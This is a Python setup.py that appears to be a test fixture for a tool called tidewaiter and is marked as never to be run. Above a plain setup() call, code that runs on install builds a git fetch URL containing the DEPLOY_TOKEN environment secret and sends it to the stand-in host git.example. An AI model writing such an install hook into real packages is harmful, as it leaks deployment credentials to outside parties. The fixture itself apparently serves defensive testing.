# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os
import subprocess

subprocess.run(["git", "fetch", "https://" + os.environ["DEPLOY_TOKEN"] + "@git.example/x"])


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
